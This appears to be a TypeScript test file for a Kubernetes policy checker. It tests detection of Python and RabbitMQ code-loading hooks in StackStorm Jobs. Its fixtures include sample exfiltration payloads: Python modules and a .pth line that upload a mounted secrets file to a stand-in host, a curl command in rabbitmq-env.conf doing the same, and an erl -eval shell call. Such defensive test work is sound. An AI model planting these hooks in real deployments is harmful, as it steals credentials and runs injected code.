/**
 * What a runtime loads beyond PYTHONPATH and LD_* (the sixteenth round),
 * read through collectCommandEffects:
 *   - PYTHONHOME: CPython believes it unconditionally (getpath.c), inside a
 *     virtualenv too, and imports the standard library from it (preload);
 *   - `sys.path.insert` in a `python -c` stands as PYTHONPATH does, and
 *     `site.addsitedir` runs its .pth files' import lines (python-hook);
 *   - modules an init container copies from a ConfigMap into the emptyDir
 *     PYTHONPATH names (python-hook, print-secret);
 *   - RabbitMQ: rabbitmq-env.conf's variables (no RABBITMQ_ prefix), its
 *     commands (sourced by sh), RABBITMQ_PLUGINS_DIR, erl's `-eval`.
 */
import { describe, expect, it } from 'vitest';
import type { Manifest } from '../../src/core/manifest.js';
import { collectCommandEffects, type CommandEffect } from '../../src/policy/command-effects.js';

type Json = Record<string, unknown>;
const SPEC = ['spec', 'template', 'spec'];
const CONF = '/etc/st2/st2.secrets.conf';
const ELF = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0xff]).toString('base64');
const POST = `import urllib.request\nurllib.request.urlopen('https://drop.example.net/u', data=open('${CONF}', 'rb').read())\n`;

const configMap = (name: string, data: Record<string, string>, field: 'data' | 'binaryData' = 'data'): Manifest => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name, namespace: 'st2-prod' }, [field]: data });
const env = (vars: Record<string, string>): Json[] => Object.entries(vars).map(([name, value]) => ({ name, value }));

/** A Job whose container `c` (st2api's image unless said) mounts `volumes` (name → [volume, mountPath]) and the secrets file. */
function job(c: Json, volumes: Record<string, [Json, string]>, inits: Json[] = []): Manifest {
  const mounts = Object.entries(volumes).map(([name, [, mountPath]]) => ({ name, mountPath }));
  const container = { name: 'c', image: 'stackstorm/st2api:3.8.1', command: ['/opt/stackstorm/st2/bin/st2api'], ...c, volumeMounts: [...mounts, { name: 'conf', mountPath: CONF, subPath: 'st2.secrets.conf' }] };
  const vols = [...Object.entries(volumes).map(([name, [v]]) => ({ name, ...v })), { name: 'conf', secret: { secretName: 'st2-config-secrets' } }];
  return { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j', namespace: 'st2-prod' }, spec: { template: { spec: { initContainers: inits, containers: [container], volumes: vols } } } };
}

function facts(...resources: Manifest[]): string[] {
  const effects: CommandEffect[] = collectCommandEffects(resources, new Map(resources.flatMap((r, i) => (r['kind'] === 'Job' ? [[i, [SPEC]] as const] : []))), 'st2-prod', new Date('2026-12-07T00:00:00Z'));
  return effects.flatMap((e) => {
    if (e.effect === 'python-hook') return [`${e.module ? 'module' : 'hook'} ${e.file} ${e.host}`];
    if (e.effect === 'print-secret') return [`print ${e.program} ${e.secret}`];
    if (e.effect === 'preload') return [`${e.variable} ${e.file}`];
    if (e.effect === 'upload') return [`upload ${e.program} ${e.destination}`];
    return [];
  });
}

const mods = (data: Record<string, string>): Manifest => configMap('mods', data);
const CM: Json = { configMap: { name: 'mods' } };

describe('PYTHONHOME', () => {
  it.each<[string, Manifest[], string[]]>([
    ['at a ConfigMap holding a standard library', [mods({ 'os.py': 'x = 1\n' }), job({ env: env({ PYTHONHOME: '/opt/pyhome' }) }, { py: [CM, '/opt/pyhome'] })], ['PYTHONHOME /opt/pyhome']],
    ['a ConfigMap mounted inside its lib directory', [mods({ 'site.py': 'x = 1\n' }), job({ env: env({ PYTHONHOME: '/opt/pyhome' }) }, { py: [CM, '/opt/pyhome/lib/python3.8'] })], ['PYTHONHOME /opt/pyhome/lib/python3.8']],
    ['exec_prefix after the colon on an emptyDir a script fills', [job({ env: env({ PYTHONHOME: '/usr:/opt/dyn' }) }, { dyn: [{ emptyDir: {} }, '/opt/dyn'] }, [{ name: 'i', image: 'busybox:1.36.1', command: ['sh', '-c', 'wget -qO- https://dl.example.net/d.tgz | tar xz -C /d'], volumeMounts: [{ name: 'dyn', mountPath: '/d' }] }])], ['PYTHONHOME /opt/dyn']],
    ['also from a Secret by envFrom', [mods({ 'os.py': 'x\n' }), configMap('e', { PYTHONHOME: '/opt/pyhome' }), job({ envFrom: [{ configMapRef: { name: 'e' } }] }, { py: [CM, '/opt/pyhome'] })], ['PYTHONHOME /opt/pyhome']],
  ])('%s', (_what, resources, expected) => {
    expect(facts(...resources)).toEqual(expected);
  });

  it.each<[string, Manifest[]]>([
    ["the image's own prefix", [job({ env: env({ PYTHONHOME: '/usr' }) }, {})]],
    ['st2\'s virtualenv, nothing mounted there', [mods({ 'os.py': 'x\n' }), job({ env: env({ PYTHONHOME: '/opt/stackstorm/st2' }) }, { py: [CM, '/opt/other'] })]],
    ['an image volume', [job({ env: env({ PYTHONHOME: '/opt/pyhome' }) }, { py: [{ image: { reference: 'registry.corp.example/python:3.8.19' } }, '/opt/pyhome'] })]],
  ])('%s: nothing', (_what, resources) => {
    expect(facts(...resources)).toEqual([]);
  });
});

describe("sys.path in a container's python -c", () => {
  const runs = (code: string): Json => ({ command: ['/opt/stackstorm/st2/bin/python', '-c', code] });
  it.each<[string, Manifest[], string[]]>([
    ['sys.path.insert(0, dir) before st2api', [mods({ 'six.py': POST }), job(runs("import sys; sys.path.insert(0, '/opt/py'); from st2api.cmd import api; api.main()"), { py: [CM, '/opt/py'] })], ['module /opt/py/six.py drop.example.net']],
    ['inside a shell script', [mods({ 'six.py': POST }), job({ command: ['sh', '-c', 'exec python3 -c "import sys; sys.path.insert(1, \'/opt/py\'); import st2api.cmd.api as a; a.main()"'] }, { py: [CM, '/opt/py'] })], ['module /opt/py/six.py drop.example.net']],
    ['site.addsitedir runs a .pth import line', [mods({ 'zz.pth': "import urllib.request; urllib.request.urlopen('https://drop.example.net/p', data=open('/etc/st2/st2.secrets.conf','rb').read())\n" }), job(runs("import site; site.addsitedir('/opt/py'); from st2auth.cmd import api; api.main()"), { py: [CM, '/opt/py'] })], ['hook /opt/py/zz.pth drop.example.net']],
  ])('%s', (_what, resources, expected) => {
    expect(facts(...resources)).toEqual(expected);
  });

  it.each<[string, Manifest[]]>([
    ['inserting a directory of harmless modules', [mods({ 'helpers.py': 'def f():\n    return 1\n' }), job(runs("import sys; sys.path.insert(0, '/opt/py'); import helpers"), { py: [CM, '/opt/py'] })]],
    ['sys.path.append: after site-packages (a module sends only when imported by name: same as a script)', [mods({ 'six.py': POST }), job(runs("import sys; sys.path.append('/opt/py'); from st2api.cmd import api; api.main()"), { py: [CM, '/opt/py'] })]],
    ['site.addsitedir of a directory whose .pth lists paths only', [mods({ 'extra.pth': '/opt/py/lib\n' }), job(runs("import site; site.addsitedir('/opt/py')"), { py: [CM, '/opt/py'] })]],
  ])('%s: nothing', (_what, resources) => {
    expect(facts(...resources)).toEqual([]);
  });
});

describe('PYTHONPATH on an emptyDir a container fills from a ConfigMap', () => {
  const copier = (script: string): Json => ({ name: 'copy', image: 'busybox:1.36.1', command: ['sh', '-c', script], volumeMounts: [{ name: 'shared', mountPath: '/shared' }, { name: 'src', mountPath: '/src' }] });
  const pod = (script: string, data: Record<string, string>): Manifest[] => [
    mods(data),
    (() => {
      const j = job({ env: env({ PYTHONPATH: '/opt/py' }) }, { shared: [{ emptyDir: {} }, '/opt/py'] }, [copier(script)]);
      const spec = ((j['spec'] as Json)['template'] as { spec: { volumes: Json[] } }).spec;
      spec.volumes.push({ name: 'src', configMap: { name: 'mods' } });
      return j;
    })(),
  ];
  it.each<[string, Manifest[], string[]]>([
    ['cp of every module', pod('cp /src/*.py /shared/', { 'six.py': POST }), ['module /opt/py/six.py drop.example.net']],
    ['cp -r of the directory\'s contents', pod('mkdir -p /shared && cp -rL /src/. /shared/', { 'six.py': POST }), ['module /opt/py/six.py drop.example.net']],
    ['one file renamed', pod('cp /src/m /shared/kombu.py', { m: POST }), ['module /opt/py/kombu.py drop.example.net']],
    ['beside a download (still copied)', pod('cp /src/six.py /shared/ && wget -q -O /tmp/x https://example.org/x', { 'six.py': POST }), ['module /opt/py/six.py drop.example.net']],
    ['a compiled module', [configMap('mods', { '_speedups.so': ELF }, 'binaryData'), ...pod('cp /src/_speedups.so /shared/', {}).slice(1)], ['PYTHONPATH /opt/py/_speedups.so']],
  ])('%s', (_what, resources, expected) => {
    expect(facts(...resources)).toEqual(expected);
  });

  it('copied modules that send nothing: nothing', () => {
    expect(facts(...pod('cp /src/*.py /shared/', { 'six.py': 'import os\n' }))).toEqual([]);
  });
});

describe('RabbitMQ', () => {
  const rabbit = (c: Json, volumes: Record<string, [Json, string]>): Manifest => job({ image: 'rabbitmq:3.12.14', command: ['docker-entrypoint.sh', 'rabbitmq-server'], ...c }, volumes);
  const BEAM = { 'hook.beam': ELF };
  const envConf = (text: string): Manifest => configMap('rmq-env', { 'rabbitmq-env.conf': text });
  const ETC: Json = { configMap: { name: 'rmq-env' } };
  const ERL: Json = { configMap: { name: 'erl' } };
  it.each<[string, Manifest[], string[]]>([
    ['rabbitmq-env.conf SERVER_ADDITIONAL_ERL_ARGS -pa', [envConf('SERVER_ADDITIONAL_ERL_ARGS="-pa /opt/erl -s hook"\n'), configMap('erl', BEAM, 'binaryData'), rabbit({}, { etc: [ETC, '/etc/rabbitmq'], erl: [ERL, '/opt/erl'] })], ['RABBITMQ_SERVER_ADDITIONAL_ERL_ARGS /opt/erl/hook.beam']],
    ['the file at RABBITMQ_CONF_ENV_FILE, exported', [envConf('export SERVER_CODE_PATH=/opt/erl\n'), configMap('erl', BEAM, 'binaryData'), rabbit({ env: env({ RABBITMQ_CONF_ENV_FILE: '/cfg/rabbitmq-env.conf' }) }, { etc: [ETC, '/cfg'], erl: [ERL, '/opt/erl'] })], ['RABBITMQ_SERVER_CODE_PATH /opt/erl/hook.beam']],
    ['RABBITMQ_PLUGINS_DIR with a ConfigMap plugin first', [configMap('erl', { 'r16_hook-1.0.ez': ELF }, 'binaryData'), rabbit({ env: env({ RABBITMQ_PLUGINS_DIR: '/opt/erl:/opt/rabbitmq/plugins' }) }, { erl: [ERL, '/opt/erl'] })], ['RABBITMQ_PLUGINS_DIR /opt/erl']],
    ['PLUGINS_DIR in rabbitmq-env.conf', [envConf('PLUGINS_DIR=/opt/erl:/opt/rabbitmq/plugins # extra\n'), configMap('erl', BEAM, 'binaryData'), rabbit({}, { etc: [ETC, '/etc/rabbitmq'], erl: [ERL, '/opt/erl'] })], ['RABBITMQ_PLUGINS_DIR /opt/erl']],
    // base/rabbitmq.yaml's shape: an init container copies the config ConfigMap into the /etc/rabbitmq emptyDir, beside a heredoc.
    ['rabbitmq-env.conf copied into the config emptyDir', [envConf('SERVER_ADDITIONAL_ERL_ARGS="-pa /opt/erl -s hook"\n'), configMap('erl', BEAM, 'binaryData'), (() => {
      const j = rabbit({}, { config: [{ emptyDir: {} }, '/etc/rabbitmq'], erl: [ERL, '/opt/erl'] });
      const spec = ((j['spec'] as Json)['template'] as { spec: Json & { volumes: Json[]; initContainers: Json[] } }).spec;
      spec.volumes.push({ name: 'cm', configMap: { name: 'rmq-env' } });
      spec.initContainers.push({ name: 'copy', image: 'rabbitmq:3.12.14', command: ['sh', '-ec', 'cp /etc/rabbitmq-configmap/rabbitmq-env.conf /etc/rabbitmq/\npass="$(printf %s "${P}")"\ncat > /etc/rabbitmq/definitions.json <<EOF\n{"users": [{"password": "${pass}"}]}\nEOF\n'], volumeMounts: [{ name: 'cm', mountPath: '/etc/rabbitmq-configmap' }, { name: 'config', mountPath: '/etc/rabbitmq' }] });
      return j;
    })()], ['RABBITMQ_SERVER_ADDITIONAL_ERL_ARGS /opt/erl/hook.beam']],
    ['-eval among erl flags', [rabbit({ env: env({ RABBITMQ_SERVER_ADDITIONAL_ERL_ARGS: "-eval 'os:cmd(\"id\")'" }) }, {})], ['RABBITMQ_SERVER_ADDITIONAL_ERL_ARGS -eval']],
    ['a command in rabbitmq-env.conf posting a mounted Secret', [envConf(`NODENAME=rabbit@localhost\ncurl -s -F c=@${CONF} https://drop.example.net/c || true\n`), rabbit({}, { etc: [ETC, '/etc/rabbitmq'] })], ['upload curl drop.example.net']],
  ])('%s', (_what, resources, expected) => {
    expect(facts(...resources)).toEqual(expected);
  });

  it.each<[string, Manifest[]]>([
    ['rabbitmq-env.conf naming the node and ports', [envConf('NODENAME=rabbit@rabbitmq-0\nNODE_PORT=5672\nSERVER_ADDITIONAL_ERL_ARGS="+sbwt none"\n'), rabbit({}, { etc: [ETC, '/etc/rabbitmq'] })]],
    ['the environment wins over the file', [envConf('SERVER_ADDITIONAL_ERL_ARGS="-pa /opt/erl"\n'), configMap('erl', BEAM, 'binaryData'), rabbit({ env: env({ RABBITMQ_SERVER_ADDITIONAL_ERL_ARGS: '+sbwt none' }) }, { etc: [ETC, '/etc/rabbitmq'], erl: [ERL, '/opt/erl'] })]],
    ['the image\'s plugins directory', [rabbit({ env: env({ RABBITMQ_PLUGINS_DIR: '/opt/rabbitmq/plugins' }) }, {})]],
    ['a ConfigMap of enabled_plugins on no plugins path', [configMap('erl', { enabled_plugins: '[rabbitmq_management].\n' }), rabbit({ env: env({ RABBITMQ_PLUGINS_DIR: '/opt/erl' }) }, { erl: [ERL, '/opt/erl'] })]],
  ])('%s: nothing', (_what, resources) => {
    expect(facts(...resources)).toEqual([]);
  });
});
